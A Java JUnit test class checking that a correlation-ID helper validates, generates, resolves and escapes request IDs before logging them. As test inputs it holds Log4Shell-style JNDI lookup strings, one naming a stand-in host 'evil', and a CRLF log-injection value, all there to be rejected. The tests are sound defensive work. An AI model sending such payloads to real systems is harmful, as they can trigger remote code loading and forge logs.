package dev.clambake.correlation;

import java.util.HashSet;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import static org.assertj.core.api.Assertions.assertThat;

@ExtendWith(OutputCaptureExtension.class)
class CorrelationIdsTests {

	private final CorrelationIds ids = new CorrelationIds(new ClambakeCorrelationProperties());

	@Test
	void acceptsOneTo128IdCharacters() {
		assertThat(this.ids.isValid("a")).isTrue();
		assertThat(this.ids.isValid("Req-1.2_3:4")).isTrue();
		assertThat(this.ids.isValid("x".repeat(128))).isTrue();
		assertThat(this.ids.isValid("x".repeat(129))).isFalse();
		assertThat(this.ids.isValid("")).isFalse();
		assertThat(this.ids.isValid(null)).isFalse();
		assertThat(this.ids.isValid("a b")).isFalse();
		assertThat(this.ids.isValid("a\r\nb")).isFalse();
		assertThat(this.ids.isValid("caf\u00e9")).isFalse();
		assertThat(this.ids.isValid("\"a\"")).isFalse();
		assertThat(this.ids.isValid("${jndi:ldap://x/a}")).isFalse();
	}

	@Test
	void maxLengthIsConfigurable() {
		ClambakeCorrelationProperties properties = new ClambakeCorrelationProperties();
		properties.setMaxLength(8);
		CorrelationIds short8 = new CorrelationIds(properties);
		assertThat(short8.isValid("12345678")).isTrue();
		assertThat(short8.isValid("123456789")).isFalse();
	}

	@Test
	void generatedIdsAreValidAndDistinct() {
		Set<String> seen = new HashSet<>();
		for (int i = 0; i < 10_000; i++) {
			String id = CorrelationIds.generate();
			assertThat(id).matches("[0-9a-f]{32}");
			assertThat(seen.add(id)).isTrue();
		}
	}

	@Test
	void resolveTakesTheMainHeaderThenTheAcceptedOnes() {
		assertThat(this.ids.resolve(Map.of("X-Correlation-ID", "main", "X-Request-ID", "fallback")::get))
			.isEqualTo("main");
		assertThat(this.ids.resolve(Map.of("X-Request-ID", "fallback")::get)).isEqualTo("fallback");
		assertThat(this.ids.resolve(Map.<String, String>of()::get)).matches("[0-9a-f]{32}");
	}

	@Test
	void invalidValueIsReplacedAndReportedEscapedAndTruncated(CapturedOutput output) {
		String hostile = "${jndi:ldap://evil/a}\r\nFORGED " + "x".repeat(10_000);
		String id = this.ids.resolve(Map.of("X-Correlation-ID", hostile, "X-Request-ID", "valid")::get);
		// An invalid main header is not skipped in favour of a later one: the client sent garbage
		assertThat(id).matches("[0-9a-f]{32}");
		assertThat(CorrelationIds.escape(hostile))
			.isEqualTo("\\u0024\\u007bjndi:ldap:\\u002f\\u002fevil\\u002fa\\u007d\\u000d\\u000aFORGED\\u0020xx...");
		assertThat(output).doesNotContain("${jndi").doesNotContain("\r\nFORGED");
	}

	@Test
	void escapeLeavesNoControlQuoteOrNonAsciiCharacter() {
		String escaped = CorrelationIds.escape("\"caf\u00e9\u4e2d\u0000\t\n\r'");
		assertThat(escaped).matches("[A-Za-z0-9._:\\\\-]*");
	}

}
